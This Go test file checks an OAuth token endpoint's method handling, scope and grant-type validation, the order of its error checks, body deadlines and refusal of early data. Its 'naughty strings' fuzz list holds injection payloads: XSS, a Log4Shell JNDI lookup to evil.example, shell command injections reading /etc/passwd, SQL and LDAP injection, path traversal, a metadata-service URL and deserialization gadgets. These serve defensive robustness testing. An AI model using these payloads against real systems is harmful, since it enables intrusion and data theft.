package endpoint

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-auth/gatehouse/tokenissuer/endpoint/requests"
	"github.com/gatehouse-auth/gatehouse/tokenissuer/oauth"
	"github.com/gatehouse-auth/gatehouse/tokenissuer/store"
)

// What the token endpoint and its neighbours make of a request, and the form of their answers. Package requests tests every form of a
// body and of a credential.

// newTokenCounter returns a counter with clients of each kind.
func newTokenCounter(t *testing.T) *counter {
	t.Helper()
	return newCounter(t, oauth.EdDSA,
		&store.Client{ID: "wide", Scopes: oauth.Scopes{"public", "orders.read"}}, &store.Client{ID: "narrow", Scopes: oauth.Scopes{"orders.read"}},
		&store.Client{ID: "legacy", Grants: []oauth.GrantType{oauth.AuthorizationCode}, RedirectURIs: []string{"https://legacy.example/cb"}},
		&store.Client{ID: "pub", Type: store.PublicClient, RedirectURIs: []string{"https://pub.example/cb"}},
		&store.Client{ID: "openpub", Type: store.PublicClient, Grants: []oauth.GrantType{oauth.ClientCredentials}},
	)
}

const grant = "grant_type=client_credentials"

// as returns the form parameters that authenticate a client.
func as(id string) string { return "&client_id=" + id + "&client_secret=" + costSecret }

// basic returns an Authorization header with the text as a Basic credential.
func basic(text string) []string {
	return []string{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte(text))}
}

// description matches the permitted values of error_description (RFC 6749 §5.2).
var description = regexp.MustCompile(`^[\x20-\x21\x23-\x5B\x5D-\x7E]+$`)

// holdRefused checks the status, code and form of an error response, and returns its body. The challenge is Basic or there is none.
func holdRefused(t *testing.T, answer *http.Response, status int, code string, challenged bool) string {
	t.Helper()
	body, err := io.ReadAll(answer.Body)
	if err != nil {
		t.Fatal(err)
	}
	var said struct {
		Error       string `json:"error"`
		Description string `json:"error_description"`
	}
	if err := json.Unmarshal(body, &said); err != nil {
		t.Fatalf("%v in %s", err, body)
	}
	exact, _ := json.Marshal(said)
	if answer.StatusCode != status || said.Error != code || strings.TrimSpace(string(body)) != string(exact) || !description.MatchString(said.Description) {
		t.Errorf("%d %s, want %d %s", answer.StatusCode, body, status, code)
	}
	var want []string
	if challenged {
		want = []string{`Basic realm="` + costIssuer + `"`}
	}
	if got := answer.Header.Values("Www-Authenticate"); !slices.Equal(got, want) {
		t.Errorf("challenge %q, want %q", got, want)
	}
	for name, want := range map[string]string{
		"Cache-Control": "no-store", "Pragma": "no-cache", "Content-Type": "application/json; charset=utf-8", "X-Content-Type-Options": "nosniff", "Access-Control-Allow-Origin": "",
	} {
		if got := answer.Header.Get(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	return string(body)
}

// tokenRow is a request to the token endpoint that is refused. With Basic credentials, a 401 has a challenge.
type tokenRow struct {
	name    string
	body    string
	headers []string
	status  int
	code    string
}

func (c *counter) holdRows(t *testing.T, rows ...tokenRow) {
	t.Helper()
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			answer := c.ask(http.MethodPost, "/oauth/token", row.body, nil, row.headers...)
			body := holdRefused(t, answer, row.status, row.code, row.status == http.StatusUnauthorized && row.headers != nil)
			if strings.Contains(body, costSecret) || strings.Contains(body, "eyJ") {
				t.Errorf("a credential in %s", body)
			}
		})
	}
}

// TestT23T24OnlyPOST: GET, HEAD, PUT, PATCH, DELETE or `post` → 405 with `Allow: POST` and no side effect; a preflight from an
// unregistered origin → no CORS headers.
func TestT23T24OnlyPOST(t *testing.T) {
	t.Parallel()
	c := newTokenCounter(t)
	for _, path := range []string{"/oauth/token", "/oauth/revoke", "/oauth/introspect"} {
		for _, method := range []string{"GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "QUERY", "post", "Post", "POSTX"} {
			answer := c.ask(method, path, grant+as("conf"), nil, "Origin", "https://evil.example", "Access-Control-Request-Method", "POST")
			if method != "HEAD" {
				holdRefused(t, answer, http.StatusMethodNotAllowed, "invalid_request", false)
			}
			if allow := answer.Header.Values("Allow"); answer.StatusCode != http.StatusMethodNotAllowed || !slices.Equal(allow, []string{"POST"}) {
				t.Errorf("%s %s: %d, Allow %q", method, path, answer.StatusCode, allow)
			}
		}
	}
	for _, path := range []string{"/oauth/token/info", "/oauth/jwks", wellKnownServer, WellKnownResource} {
		for _, method := range []string{"POST", "PUT", "PATCH", "DELETE", "get"} {
			if answer := c.ask(method, path, "x=y", nil); answer.StatusCode != http.StatusMethodNotAllowed || answer.Header.Get("Allow") != "GET, HEAD" {
				t.Errorf("%s %s: %d, Allow %q", method, path, answer.StatusCode, answer.Header.Get("Allow"))
			}
		}
	}
	// A browser gets no permission with a success either.
	if answer := c.ask("POST", "/oauth/token", grant+as("conf"), nil, "Origin", "https://evil.example"); answer.StatusCode != http.StatusOK || answer.Header.Get("Access-Control-Allow-Origin") != "" {
		t.Errorf("%d %v", answer.StatusCode, answer.Header)
	}
}

// TestT34T35T66T105Scopes: `+` and `%20` separate scopes; a tab, NBSP, quote, 2,000 names, an escaped `+`, a user's or an unknown scope →
// invalid_scope; none → the default, never beyond what is registered; client_credentials never gets a refresh token.
func TestT34T35T66T105Scopes(t *testing.T) {
	t.Parallel()
	c := newTokenCounter(t)
	var names strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&names, "s%d+", i)
	}
	for name, scope := range map[string]string{
		"T34 %2B": "public%2Borders.read", "T35 a control that is no white space": "public%08orders.read", "T35 NBSP": "public%C2%A0orders.read", "T35 quote": "public%22",
		"T35 backslash": "public%5C", "T35 2000 names": names.String(), "T35 one name 2000 times": strings.Repeat("public+", 2000), "T35 DEL": "public%7F", "T35 comma": "public,orders.read",
		"T66 trusted": "trusted", "T66 trusted among others": "public+trusted", "T66 refresh_token": "refresh_token", "T66 offline_access": "public+offline_access",
		"T66 unknown": "unknown", "T66 other case": "Public", "T66 openid": "openid",
	} {
		t.Run(name, func(t *testing.T) {
			body := holdRefused(t, c.ask("POST", "/oauth/token", grant+as("wide")+"&scope="+scope, nil), http.StatusBadRequest, "invalid_scope", false)
			if strings.Contains(body, "separate names by spaces") != strings.Contains(scope, "%2B") {
				t.Error(body)
			}
		})
	}
	c.holdRows(t, tokenRow{"T105 beyond the client", grant + as("conf") + "&scope=orders.read", nil, 400, "invalid_scope"},
		tokenRow{"T105 the default is no way round the ceiling", grant + as("narrow"), nil, 400, "invalid_scope"})
	for scope, want := range map[string]string{
		"": "public", "public+orders.read": "public orders.read", "public%20orders.read": "public orders.read", "orders.read+public": "orders.read public",
		"orders.read+public+orders.read": "orders.read public", "++public+++orders.read+": "public orders.read", "orders.read": "orders.read", "orders.read+++++++++": "orders.read",
		"public%09orders.read": "public orders.read", "%0Apublic%0D%0Aorders.read%0A": "public orders.read", "public%0B%0Corders.read%09public": "public orders.read",
	} {
		answer := c.ask("POST", "/oauth/token", grant+as("wide")+"&scope="+scope, nil)
		var got map[string]any
		if err := json.NewDecoder(answer.Body).Decode(&got); err != nil || answer.StatusCode != http.StatusOK || got["scope"] != want || got["refresh_token"] != nil || len(got) != 5 {
			t.Errorf("scope %q: %d %v, %v, want %q", scope, answer.StatusCode, got, err, want)
		}
	}
}

// TestT43T44T104GrantTypes: no grant_type → invalid_request; an unknown or misspelled one → unsupported_grant_type; one that this client
// may not use, client_credentials of a public client (T67) → unauthorized_client.
func TestT43T44T104GrantTypes(t *testing.T) {
	t.Parallel()
	c := newTokenCounter(t)
	c.holdRows(t,
		tokenRow{"T43 missing", as("conf")[1:], nil, 400, "invalid_request"}, tokenRow{"T43 missing, by Basic", "scope=public", basic("conf:" + costSecret), 400, "invalid_request"},
		tokenRow{"T44 not this client's", grant + as("legacy"), nil, 400, "unauthorized_client"}, tokenRow{"T44 by Basic", grant, basic("legacy:" + costSecret), 400, "unauthorized_client"},
		tokenRow{"T67 token exchange without a rule", "grant_type=urn:ietf:params:oauth:grant-type:token-exchange" + as("conf"), nil, 400, "unauthorized_client"},
		tokenRow{"T67 public client", grant + "&client_id=pub", nil, 400, "unauthorized_client"}, tokenRow{"T67 public client registered for it", grant + "&client_id=openpub", nil, 400, "unauthorized_client"},
		tokenRow{"T104 password is off", "grant_type=password&email=a@b.example&password=x", nil, 400, "unsupported_grant_type"},
		tokenRow{"T104 password is off, wrong client", "grant_type=password&email=a@b.example&password=x&client_id=conf&client_secret=x", nil, 400, "unsupported_grant_type"},
	)
	for _, name := range []string{
		"foo", "Authorization_Code", "Client_Credentials", "client_credentials ", " client_credentials", "client-credentials", "password", "implicit",
		"urn:ietf:params:oauth:grant-type:device-code", "urn:ietf:params:oauth:grant-type:jwt-bearer", "client_credentials,password", "client_credentials\u00a0",
	} {
		c.holdRows(t, tokenRow{"T43 " + name, "grant_type=" + url.QueryEscape(name) + as("conf"), nil, 400, "unsupported_grant_type"})
	}
}

// TestT99T100T102TheOrderOfChecks: an unknown client with a dead refresh token, a wrong secret with a used code → invalid_client, never
// invalid_grant; a wrong secret with an unknown grant type → unsupported_grant_type. Nothing about a grant is said to somebody who has
// not proved which client they are. 401 after Basic → a Basic challenge; 401 after body credentials, and any 400 → none: with a challenge
// on a 400 common clients lose the typed error.
func TestT99T100T102TheOrderOfChecks(t *testing.T) {
	t.Parallel()
	c := newTokenCounter(t)
	c.holdRows(t,
		tokenRow{"media type before everything", "grant_type=foo&client_id=nobody", []string{"Content-Type", "text/plain"}, 400, "invalid_request"},
		tokenRow{"duplicates before the grant type", "a=1&a=2", nil, 400, "invalid_request"},
		tokenRow{"grant type before the client", "client_id=nobody&client_secret=x", nil, 400, "invalid_request"},
		tokenRow{"unknown grant type before the client", "grant_type=foo&client_id=conf&client_secret=wrong", nil, 400, "unsupported_grant_type"},
		tokenRow{"unknown grant type before two mechanisms", "grant_type=foo" + as("conf"), basic("conf:" + costSecret), 400, "unsupported_grant_type"},
		tokenRow{"two mechanisms before the client", grant + "&client_id=nobody&client_secret=x", basic("nobody:x"), 400, "invalid_request"},
		tokenRow{"client before its grants", grant + "&client_id=legacy&client_secret=wrong", nil, 401, "invalid_client"},
		tokenRow{"client before the scope", grant + "&client_id=conf&client_secret=wrong&scope=%22", nil, 401, "invalid_client"},
		tokenRow{"grants before the scope", grant + as("legacy") + "&scope=%22", nil, 400, "unauthorized_client"},
		tokenRow{"the scope last", grant + as("conf") + "&scope=%22", nil, 400, "invalid_scope"},
		tokenRow{"unknown client, dead refresh token", "grant_type=refresh_token&refresh_token=x&client_id=nobody&client_secret=x", nil, 401, "invalid_client"},
		tokenRow{"wrong secret, dead code", "grant_type=authorization_code&code=x&client_id=conf&client_secret=x", nil, 401, "invalid_client"},
		tokenRow{"dead refresh token", "grant_type=refresh_token&refresh_token=x" + as("conf"), nil, 400, "invalid_grant"},
		tokenRow{"401 to Basic", grant, basic("conf:wrong"), 401, "invalid_client"}, tokenRow{"401 to nothing", grant, nil, 401, "invalid_client"},
		tokenRow{"400 with wrong Basic", "grant_type=foo", basic("conf:wrong"), 400, "unsupported_grant_type"},
		tokenRow{"400 for the scope with Basic", grant + "&scope=unknown", basic("conf:" + costSecret), 400, "invalid_scope"},
	)
	// At the neighbours too: the client before the token.
	for _, path := range []string{"/oauth/revoke", "/oauth/introspect"} {
		holdRefused(t, c.ask("POST", path, "client_id=conf&client_secret=wrong", nil), 401, "invalid_client", false)
		holdRefused(t, c.ask("POST", path, "token=x", nil), 401, "invalid_client", false)
		for _, form := range []string{"", as("conf")[1:], as("conf")[1:] + "&token="} {
			holdRefused(t, c.ask("POST", path, form, nil), 400, "invalid_request", false)
		}
	}
}

// naughty are strings that have broken other programs.
var naughty = []string{
	"undefined", "null", "true", "None", "hasOwnProperty", "constructor", "\\", "0", "-1", "1E02", "0/0", "NaN", "-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1,000.00",
	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "٠١٢٣٤٥٦٧٨٩", "ด้้้้้็็็็็้้้้้็็็็็", "'", "\"", "社會科學院語學研究所", "ﬁ", "İ", "ſ", "K", "ß", "e\u0301", "👩🏽", "👨‍👩‍👦", "🇺🇸🇷", "１２３", "﷽",
	"\u202etest\u202e", "\u200b", "\ufeff", "\ufffe", "\u2028", "\u0085", "\u00a0", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "\U0010ffff", "<script>alert(1)</script>", "&lt;script&gt;", "\"><script>alert(1)</script>", "javascript:alert(1)",
	"${7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "{http.request.header.Authorization}", "{env.HOME}", "{file./etc/passwd}", "%s%s%s%s%n", "%!s(MISSING)", "$HOME", "`id`", "$(touch /tmp/x)", "; ls", "| cat /etc/passwd",
	"1'; DROP TABLE clients-- 1", "' OR '1'='1", "%", "_", "admin'--", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "[$ne]", "../../../../etc/passwd", "%2e%2e%2f", "file:///etc/passwd", "http://169.254.169.254/", "CON", "\\\\?\\",
	"() { 0; }; touch x", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system", "Bearer eyJhbGciOiJub25lIn0.e30.", "Scunthorpe", "=cmd|' /C calc'!A0", "+1", "[]", "{}", "[object Object]",
	strings.Repeat("a", 5000), strings.Repeat("é", 3000), strings.Repeat("{", 2000), strings.Repeat("\"", 500), strings.Repeat("a ", 900),
}

// TestT40NaughtyStrings: a hundred naughty strings in each text parameter → no 5xx, and nothing reflected.
func TestT40NaughtyStrings(t *testing.T) {
	t.Parallel()
	c := newTokenCounter(t)
	refused := map[string]struct {
		status int
		code   string
	}{"grant_type": {400, "unsupported_grant_type"}, "client_id": {401, "invalid_client"}, "client_secret": {401, "invalid_client"}, "scope": {400, "invalid_scope"}, "unknown": {200, ""}}
	for _, text := range naughty {
		for parameter, want := range refused {
			fields := map[string]string{"grant_type": "client_credentials", "client_id": "conf", "client_secret": costSecret, "scope": "public", parameter: text}
			object, err := json.Marshal(fields)
			if err != nil {
				t.Fatal(err)
			}
			form := make(url.Values)
			for name, value := range fields {
				form.Set(name, value)
			}
			for media, body := range map[string]string{requests.URLEncoded: form.Encode(), "application/json": string(object)} {
				answer := c.ask("POST", "/oauth/token", body, nil, "Content-Type", media)
				if want.code == "" {
					if answer.StatusCode != want.status {
						t.Errorf("%s: %d for an unknown parameter %.40q", media, answer.StatusCode, text)
					}
				} else if body := holdRefused(t, answer, want.status, want.code, false); len(text) > 12 && strings.Contains(body, text) {
					t.Errorf("%s is reflected in %s", parameter, body)
				}
			}
		}
		for _, credential := range []string{text + ":x", "conf:" + text, url.QueryEscape(text) + ":x", text} {
			holdRefused(t, c.ask("POST", "/oauth/token", grant, nil, basic(credential)...), 401, "invalid_client", true)
		}
	}
}

// deadlined records whether a response's request got a deadline for its body.
type deadlined struct {
	*httptest.ResponseRecorder
	until time.Time
}

func (d *deadlined) SetReadDeadline(at time.Time) error {
	if d.until.IsZero() {
		d.until = at
	}
	return nil
}

// TestT42EveryBodyHasADeadline: a body that never comes, also at endpoints that read none → ten seconds. A server waits for it before it
// answers.
func TestT42EveryBodyHasADeadline(t *testing.T) {
	t.Parallel()
	c := newTokenCounter(t)
	for _, asked := range []string{
		"POST /oauth/token", "PUT /oauth/token", "POST /oauth/revoke", "GET /oauth/jwks", "POST /oauth/none", "POST /oauth/login", "POST /api/v1/organisations/me/users/u/access_tokens",
	} {
		method, path, _ := strings.Cut(asked, " ")
		for name, r := range map[string]*http.Request{"with a length": httptest.NewRequest(method, path, strings.NewReader("a=b")), "chunked": httptest.NewRequest(method, path, io.MultiReader(strings.NewReader("a=b")))} {
			w := &deadlined{ResponseRecorder: httptest.NewRecorder()}
			c.ServeHTTP(w, r)
			if left := time.Until(w.until); left <= 0 || left > 10*time.Second {
				t.Errorf("%s, %s: the body has %s", asked, name, left)
			}
		}
	}
}

// TestT45EarlyDataIsRefused: a POST in TLS 1.3 early data or with `Early-Data: 1` → 425; repeated after the handshake → served.
func TestT45EarlyDataIsRefused(t *testing.T) {
	t.Parallel()
	c := newTokenCounter(t)
	for _, path := range []string{"/oauth/token", "/oauth/revoke", "/oauth/introspect"} {
		for _, value := range []string{"1", "1, 1", "true", ""} { // RFC 8470 §5.1: invalid values count as 1
			holdRefused(t, c.ask("POST", path, grant+as("conf")+"&token=x", nil, "Early-Data", value), http.StatusTooEarly, "invalid_request", false)
		}
	}
	if answer := c.ask("GET", "/oauth/jwks", "", nil, "Early-Data", "1"); answer.StatusCode != http.StatusOK { // may be replayed
		t.Errorf("GET: %d", answer.StatusCode)
	}
	if answer := c.ask("POST", "/oauth/token", grant+as("conf"), nil); answer.StatusCode != http.StatusOK {
		t.Errorf("afterwards: %d", answer.StatusCode)
	}
}
